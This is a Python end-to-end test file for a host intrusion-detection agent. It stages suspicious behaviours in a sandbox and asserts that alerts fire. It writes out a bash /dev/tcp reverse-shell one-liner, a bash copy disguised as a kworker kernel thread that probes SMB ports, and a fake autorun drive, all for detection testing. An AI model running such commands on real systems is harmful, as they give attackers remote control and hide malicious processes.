# SPDX-License-Identifier: Apache-2.0
"""Suspicion, live: programs that should not talk and do, each beside one that may."""

import pathlib
import shutil
import subprocess
import sys

from agent import Picket
from alert_case import FAR_AWAY, WORRYING, AlertCase
from e2e_case import SERVER_V4, main

CLIENT = """
import socket, sys
held = socket.create_connection((sys.argv[1], int(sys.argv[2])))
print("{}", flush=True)
sys.stdin.read()
"""


class Suspicion(AlertCase):
    @classmethod
    def make_picket(cls):
        # In a mount namespace of its own, so that drives can be mounted for it alone.
        return Picket(cls.box, inside=["unshare", "--mount", "--propagation", "private"])

    def test_a_look_alike_of_a_system_program(self):
        path = self.copy("open_many", "sshhd")
        self.hold_connection(path)
        def about_it(alert):
            return (alert["severity"] in WORRYING and
                    alert.get("process", {}).get("executable") == str(path))

        alert = self.wait_for(lambda alert: about_it(alert) and "sshd with" in alert["reason"])
        self.assertTrue(alert["process"]["sha256"])
        alert = self.wait_for(lambda alert: about_it(alert) and "connection" in alert)
        self.assertEqual(alert["connection"]["remote"]["ip"], FAR_AWAY)
        self.assertEqual(alert["connection"]["direction"], "outbound")

    def test_an_impostor_of_a_kernel_thread(self):
        shell = self.copy("/usr/bin/bash", "kworker")
        script = ("for i in 1 2 3 4 5 6; do exec 3<>/dev/tcp/203.0.113.$i/445; done 2>/dev/null;"
                  "exec 3<>/dev/tcp/%s/%d; echo {}; read; exit 0" % (FAR_AWAY, self.sink.port))
        held = self.box.start("/usr/bin/bash", "-c", "exec -a '[kworker/0:1]' %s -c '%s'" %
                              (shell, script), stdin=subprocess.PIPE)
        held.first_line()
        self.addCleanup(held.finish)
        alert = self.wait_for(lambda alert: alert["severity"] in WORRYING and
                              alert.get("process", {}).get("executable") == str(shell))
        self.assertIn("kworker", alert["reason"])

    def test_a_shell_that_somebody_types_into_from_afar(self):
        script = ("exec 3<>/dev/tcp/%s/%d; exec /usr/bin/bash <&3 >&3 2>&3" %
                  (FAR_AWAY, self.sink.port))
        shell = self.box.start("/usr/bin/bash", "-c", script)
        pid = self.pid_below(shell)
        alert = self.wait_for(lambda alert: alert["severity"] in WORRYING and
                              alert.get("process", {}).get("name") == "bash")
        self.assertEqual(alert["process"]["pid"], pid)

    def test_a_desktop_shell_that_calls_the_internet(self):
        shell = self.copy("open_many", "plasmashell")
        self.hold_connection(shell)
        alert = self.wait_for(lambda alert: alert["rule"]["id"] == "desktop_shell")
        self.assertIn(alert["severity"], WORRYING)
        self.assertEqual(alert["process"]["executable"], str(shell))
        self.assertEqual(alert["connection"]["remote"]["ip"], FAR_AWAY)

    def test_a_desktop_shell_that_talks_nearby(self):
        shell = self.copy("open_many", "gnome-shell")
        nearby = self.hold_connection(shell, SERVER_V4)
        self.assert_quiet(self.pid_below(nearby),
                          lambda alert: alert["rule"]["id"] == "desktop_shell")

    def test_a_browser_nobody_sees(self):
        browser = shutil.which("chromium")
        if not browser:
            self.skipTest("needs chromium")
        profile = self.folder / "profile"
        started = self.box.start(browser, "--headless=new", "--no-sandbox", "--disable-gpu",
                                 "--user-data-dir=%s" % profile, "--remote-debugging-port=0",
                                 "https://%s:%d/" % (FAR_AWAY, self.sink.port))
        self.addCleanup(started.stop)
        self.wait_for(lambda alert: alert["severity"] in WORRYING and
                      "chrom" in alert.get("process", {}).get("name", ""))

    def test_a_drive_with_an_autorun(self):
        image, place = self.folder / "stick.img", pathlib.Path("/media/picket-e2e-stick")
        content = self.folder / "stick"
        (content / ".trash").mkdir(parents=True)
        (content / "autorun.inf").write_text("[autorun]\r\nopen=.trash\\setup.exe\r\n"
                                             "shell\\open\\command=.trash\\setup.exe\r\n")
        (content / ".trash" / "setup.exe").write_bytes(b"MZ" + bytes(62))
        image.write_bytes(bytes(4 << 20))
        subprocess.run(["mkfs.ext4", "-q", "-d", content, image], check=True)
        enter = ["nsenter", "--mount", "--target", str(self.picket.run.pid)]
        mounted = ("mount -t tmpfs media /media && mkdir %s && mount -o loop,ro %s %s" %
                   (place, image, place))
        subprocess.run([*enter, "sh", "-c", mounted], check=True)
        self.addCleanup(subprocess.run, [*enter, "umount", place], check=False)
        alert = self.wait_for(lambda alert: alert["severity"] in WORRYING and
                              alert.get("file", "") == str(place / "autorun.inf"))
        self.assertIn("setup.exe", str(alert["evidence"]) + alert["reason"])

    def test_ordinary_programs_raise_nothing(self):
        quiet = self.box.start(sys.executable, "-c", CLIENT, FAR_AWAY, self.sink.port,
                               stdin=subprocess.PIPE)
        quiet.first_line()
        self.assert_quiet(self.pid_below(quiet), lambda alert: alert["severity"] in WORRYING)
        quiet.finish()


if __name__ == "__main__":
    main()
